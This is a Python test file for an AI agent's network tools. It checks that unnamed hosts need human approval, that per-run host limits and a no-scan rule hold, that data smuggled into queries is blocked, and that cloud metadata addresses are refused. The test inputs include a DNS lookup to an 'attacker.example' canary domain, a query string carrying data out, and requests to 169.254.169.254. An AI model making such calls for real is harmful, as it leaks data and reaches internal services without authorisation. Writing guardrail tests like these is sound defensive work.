"""Tools that reach other hosts: those that people named or an operator allows, a question about others, and a
limit for all of them. The tools are those of the real netutils server.
"""

import base64
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import take_violations
from tests.support.agent_services import Where
from tests.support.approving_agent import (
    Person,
    approval_decision,
    everywhere,
    only_request_id,
    requests,
    run_in_memory,
)
from tests.support.dialects import V10
from tests.support.fakes.network import Web, open_port
from tests.support.fakes.script import Call, Say, Script, Turn
from tests.support.harness import ReceivedStream
from tests.support.network_agent import NetworkAgent, checking, delegating

OTHER = "127.0.0.2"  # another address of this machine: nobody listens there, and everything stays here


def check(host: str, port: int | str = 9, call_id: str = "c1") -> Call:
    return Call("check_port", {"host": host, "port": port, "timeout": 0.5}, id=call_id)


def reasons(stream: ReceivedStream) -> list[str]:
    return [request["reason"] for request in requests(stream)]


async def ask_parts(person: Person, *parts: Any, **more: Any) -> ReceivedStream:
    frames = person.client.open(V10.stream, V10.message(*parts, **more))
    return ReceivedStream([frame async for frame in frames])


# --- who names a host -----------------------------------------------------------------------------


@pytest.mark.sample(1)
@everywhere
async def test_a_host_that_only_a_model_named_is_asked_about(tmp_path: Path, where: Where) -> None:
    """The supervisor's model writes the delegation: its words name nothing."""
    desk = NetworkAgent(tmp_path, checking(check("10.0.0.5")), where, outer=delegating("Check 10.0.0.5."))
    async with run_in_memory(desk) as person:
        stream = await person.ask("Is everything all right?")
        assert reasons(stream) == ["Nobody named this host in the conversation: 10.0.0.5."]
        assert take_violations() == []  # nothing went there
        rejected = await person.answer(stream, {only_request_id(stream): {"type": "reject"}})
    assert rejected.last.state == "completed"
    assert "A person rejected this call" in desk.tool_results()[0]
    assert take_violations() == []


@pytest.mark.sample(1)
@everywhere
async def test_a_person_can_say_yes_to_it(tmp_path: Path, where: Where) -> None:
    desk = NetworkAgent(tmp_path, checking(check(OTHER)), where, outer=delegating(f"Check {OTHER}."))
    async with run_in_memory(desk) as person:
        stream = await person.ask("Is everything all right?")
        approved = await person.answer(stream, {only_request_id(stream): approval_decision()})
    assert approved.last.state == "completed"
    assert "is closed" in desk.tool_results()[0]


@pytest.mark.sample(1)
@everywhere
async def test_a_host_of_an_earlier_question_is_named(tmp_path: Path, where: Where) -> None:
    desk = NetworkAgent(tmp_path, checking(check(OTHER)), where, outer=delegating("Have a look."))
    async with run_in_memory(desk) as person:
        first = await person.ask(f"Is port 9 open on {OTHER}?")
        second = await person.ask("And now?", contextId=first.context_id)
        elsewhere = await person.ask("And now?")
    assert [stream.last.state for stream in (first, second)] == ["completed", "completed"]
    assert elsewhere.last.state == "input-required"  # another conversation


@pytest.mark.sample(1)
@everywhere
async def test_an_answer_to_a_form_names_a_host(tmp_path: Path, where: Where) -> None:
    form = {"input_title": "Where?", "input_fields": [{"field_name": "host", "field_label": "Host"}]}
    script = Script(
        Turn(Call("CAIPEAgentResponse", form, id="f1")), Turn(check(OTHER)), Turn(Say("Checked."))
    )
    desk = NetworkAgent(tmp_path, script, where, outer=delegating("Have a look."))
    async with run_in_memory(desk) as person:
        stream = await person.ask("Check my host.")
        done = await person.answer(stream, {only_request_id(stream): {"host": OTHER}})
    assert done.last.state == "completed"
    assert "is closed" in desk.tool_results()[-1]


async def test_a_file_names_no_host(tmp_path: Path) -> None:
    content = base64.b64encode(f"{OTHER} is down".encode()).decode()
    desk = NetworkAgent(tmp_path, checking(check(OTHER)))
    async with run_in_memory(desk) as person:
        stream = await ask_parts(person, "Go.", V10.file(content, "log.txt", "text/plain"))
    assert reasons(stream) == [f"Nobody named this host in the conversation: {OTHER}."]


async def test_an_operator_allows_hosts(tmp_path: Path) -> None:
    calls = (check(OTHER, call_id="c1"), check("app.localhost", call_id="c2"))
    env = {"NETWORK_ALLOWED_HOSTS": "127.0.0.0/8, *.localhost"}
    desk = NetworkAgent(tmp_path, checking(*calls), env=env)
    async with run_in_memory(desk) as person:
        stream = await person.ask("Go.")
    assert stream.last.state == "completed"


async def test_always_holds_for_the_host_that_was_asked_about(tmp_path: Path) -> None:
    script = Script(
        Turn(check(OTHER)),
        Turn(check(OTHER, 10, call_id="c2")),
        Turn(check("127.0.0.3", call_id="c3")),
        Turn(Say("Checked.")),
    )
    desk = NetworkAgent(tmp_path, script)
    async with run_in_memory(desk) as person:
        stream = await person.ask("Go.")
        stream = await person.answer(stream, {only_request_id(stream): approval_decision(always=True)})
    assert reasons(stream) == ["Nobody named this host in the conversation: 127.0.0.3."]
    assert len(desk.tool_results()) == 2


# --- how many -------------------------------------------------------------------------------------


@pytest.mark.sample(1)
@everywhere
async def test_a_run_reaches_a_limited_number_of_hosts(tmp_path: Path, where: Where) -> None:
    """Over all its delegations, also those to a service."""
    hosts = [f"127.0.0.{number}" for number in (2, 3, 4)]
    outer = Script(
        Turn(Call("task", {"description": hosts[0], "subagent_type": "desk"}, id="c1")),
        Turn(Call("task", {"description": hosts[1], "subagent_type": "desk"}, id="c2")),
        Turn(Call("task", {"description": hosts[2], "subagent_type": "desk"}, id="c3")),
        Turn(Say("Done.")),
    )
    env = {"NETWORK_HOST_LIMIT": "2"}
    desk = NetworkAgent(tmp_path, checking(check("{{user}}")), where, outer=outer, env=env)
    async with run_in_memory(desk) as person:
        stream = await person.ask(f"Check {', '.join(hosts)}.")
        again = await person.ask("And again?", contextId=stream.context_id)
    assert (stream.last.state, again.last.state) == ("completed", "completed")
    results = [desk.tool_results(number)[0] for number in (1, 3, 5)]
    assert ["is closed" in result for result in results] == [True, True, False]
    assert "One run reaches at most 2 hosts" in results[2]
    assert "is closed" in desk.tool_results(7)[0]  # the next question has a budget of its own


async def test_a_network_is_not_scanned(tmp_path: Path) -> None:
    calls = [check(f"10.0.0.{number}", "1-100", f"c{number}") for number in range(256)]
    calls.append(check("10.0.0.0/24", call_id="all"))
    env = {"NETWORK_ALLOWED_HOSTS": "10.0.0.0/8", "TOOL_CALL_LIMIT": "1000"}
    desk = NetworkAgent(tmp_path, checking(*calls), env=env)
    async with run_in_memory(desk) as person:
        stream = await person.ask("Scan 10.0.0.0/24.")
    assert stream.last.state in ("completed", "input-required")
    reached = {line.split(" refused")[0].rsplit(":", 1)[0] for line in take_violations()}
    assert len(reached) <= 5  # 500 ports in all


# --- what a call carries --------------------------------------------------------------------------


async def test_a_query_that_a_model_wrote_is_asked_about(tmp_path: Path) -> None:
    with Web(body="ok", secret="").serving() as web:
        chosen = web.address("/ok?d=canary-7f3a")
        script = Script(
            Turn(Call("http_check", {"url": web.address("/ok")}, id="c1")),
            Turn(Call("http_check", {"url": chosen}, id="c2")),
            Turn(Say("Checked.")),
        )
        desk = NetworkAgent(tmp_path, script)
        async with run_in_memory(desk) as person:
            stream = await person.ask("Is 127.0.0.1 up?")
        assert reasons(stream) == [f"It sends data that nobody wrote in the conversation: {chosen}."]
        assert web.requests == ["GET /ok"]


async def test_a_query_that_a_person_wrote_is_sent(tmp_path: Path) -> None:
    with Web(body="ok", secret="").serving() as web:
        url = web.address("/ok?q=1")
        desk = NetworkAgent(tmp_path, checking(Call("http_check", {"url": url}, id="c1")))
        async with run_in_memory(desk) as person:
            stream = await person.ask(f"Is {url} up?")
        assert (stream.last.state, web.requests) == ("completed", ["GET /ok?q=1"])


@pytest.mark.sample(1)
@everywhere
async def test_read_only_knows_that_a_request_carries_data(tmp_path: Path, where: Where) -> None:
    with Web(body="ok", secret="").serving() as web:
        calls = (
            Call("http_check", {"url": web.address("/ok")}, id="c1"),
            Call("http_check", {"url": web.address("/ok?d=canary-7f3a")}, id="c2"),
            Call("http_check", {"url": f"http://localhost:{web.port}/ok"}, id="c3"),
            Call("dns_lookup", {"name": "canary-7f3a.attacker.example"}, id="c4"),
        )
        desk = NetworkAgent(tmp_path, checking(*calls), where, env={"READ_ONLY": "true"})
        async with run_in_memory(desk) as person:
            stream = await person.ask("Is 127.0.0.1 up?")
        assert (stream.last.state, requests(stream), web.requests) == ("completed", [], ["GET /ok"])
    results = desk.tool_results()
    assert "answered 200" in results[0]
    assert all("READ_ONLY is set, and a request carries data" in result for result in results[1:])
    assert take_violations() == []


# --- what nobody can allow ------------------------------------------------------------------------


@pytest.mark.sample(1)
@everywhere
async def test_metadata_is_refused_even_if_it_is_named_and_allowed(tmp_path: Path, where: Where) -> None:
    calls = (
        Call("http_check", {"url": "http://169.254.169.254/latest/"}, id="c1"),
        check("metadata.google.internal", 80, "c2"),
    )
    env = {
        "NETWORK_ALLOWED_HOSTS": "169.254.0.0/16, metadata.google.internal",
        "NETWORK_ALLOW_PRIVATE_ADDRESSES": "true",
    }
    desk = NetworkAgent(tmp_path, checking(*calls), where, env=env)
    async with run_in_memory(desk) as person:
        stream = await person.ask("Read http://169.254.169.254/latest/ and check metadata.google.internal.")
    assert stream.last.state == "completed"
    assert all("is a cloud metadata service" in result for result in desk.tool_results())
    assert take_violations() == []


async def test_private_addresses_are_closed_on_a_server_for_several_people(tmp_path: Path) -> None:
    """Naming one does not open it."""
    with open_port() as port:
        shared = {"SLACK_INTEGRATION_BOT_TOKEN": "xoxb-1"}
        desk = NetworkAgent(tmp_path, checking(check("127.0.0.1", port)), env=shared)
        async with run_in_memory(desk) as person:
            stream = await person.ask(f"Is port {port} open on 127.0.0.1?")
    assert stream.last.state == "completed"
    assert "which is closed here" in desk.tool_results()[0]
